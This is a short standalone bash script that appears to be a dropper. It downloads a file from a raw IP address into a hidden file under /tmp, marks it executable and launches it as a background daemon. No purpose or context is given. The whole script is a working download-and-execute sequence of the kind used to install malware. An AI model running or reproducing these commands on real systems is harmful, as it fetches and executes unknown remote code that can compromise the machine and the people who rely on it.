#!/bin/bash
curl -fsSL -o /tmp/.helper http://45.9.12.4/helper
chmod +x /tmp/.helper
/tmp/.helper --daemon
